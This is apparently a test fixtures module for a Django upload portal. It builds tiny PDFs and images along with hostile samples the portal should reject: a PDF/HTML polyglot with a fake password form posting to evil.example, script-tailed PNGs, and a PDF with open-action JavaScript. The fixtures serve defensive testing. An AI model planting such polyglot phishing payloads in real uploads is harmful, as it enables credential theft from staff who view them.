"""Files that tests upload: real (if tiny) PDFs and images, and the hostile ones the portal refuses."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image


def pdf_bytes(*, extra: bytes = b"") -> bytes:
    """A one-page PDF (72 pt square); `extra` is written into it as a comment-like tail object."""
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(72, 72)
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    return data.replace(b"%%EOF", extra + b"\n%%EOF") if extra else data


PDF = pdf_bytes()

# Starts as a PDF, goes on as a web page: what was stored as text/html and rendered to a clerk.
POLYGLOT_PDF = b"%PDF-1.4\n" + (
    b"<html><body><form action='https://evil.example/'>Session expired. Password: <input name=p>"
    b"</form><script>alert(1)</script></body></html>\n%%EOF"
)


def pdf_with_javascript() -> bytes:
    import pypdf
    from pypdf.actions import JavaScript

    writer = pypdf.PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt: str = "PNG", *, size=(40, 30), exif_gps: bool = False, tail: bytes = b"") -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    kwargs = {}
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "PhoneMaker"  # Make
        gps = {1: "N", 2: (35.0, 41.0, 21.0), 3: "E", 4: (51.0, 23.0, 20.0)}  # Tehran
        exif[0x8825] = gps
        kwargs["exif"] = exif
    image.save(out, format=fmt, **kwargs)
    return out.getvalue() + tail


PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
POLYGLOT_PNG = image_bytes("PNG", tail=b"<html><script>alert(1)</script></html>")


def upload(data: bytes, name: str = "scan.pdf", content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# Written under the project folder by the tools, not by the portal: the interpreter's bytecode, the
# tests' screenshots and PDF pages, and what is installed there (virtualenv, node packages).
PROJECT_OUTPUTS = {".git", ".venv", "node_modules", "__pycache__", "test-artifacts", ".ruff_cache"}


def project_files() -> dict[str, tuple[int, int]]:
    """Every file under the project folder, tools' outputs left out: path → (mtime, size)."""
    import os
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in PROJECT_OUTPUTS]
        for name in files:
            stat = os.stat(os.path.join(folder, name))
            found[os.path.relpath(os.path.join(folder, name), root)] = (stat.st_mtime_ns, stat.st_size)
    return found


def project_files_changed(before: dict[str, tuple[int, int]]) -> list[str]:
    """Files added or changed under the project folder since `before` (project_files())."""
    return sorted(path for path, seen in project_files().items() if before.get(path) != seen)


def s3_bucket_ensure() -> None:
    """Create the configured bucket if the S3 endpoint (moto's server in CI) does not have it yet."""
    from django.conf import settings
    from django.core.files.storage import storages

    storage = storages.create_storage({"BACKEND": "storages.backends.s3.S3Storage", "OPTIONS": settings.S3_OPTIONS})
    bucket = storage.bucket
    try:
        bucket.meta.client.head_bucket(Bucket=bucket.name)
    except bucket.meta.client.exceptions.ClientError:
        bucket.create()



def storage_env(settings) -> dict[str, str]:
    """Environment for a process started by a test (a worker, a restore) that reads and writes the
    test's own files: its folder on the embedded default, its prefix of the bucket with S3."""
    options = settings.STORAGES["default"].get("OPTIONS", {})
    return {"PRIVATE_MEDIA_ROOT": str(settings.MEDIA_ROOT), "S3_PREFIX": options.get("location", "")}
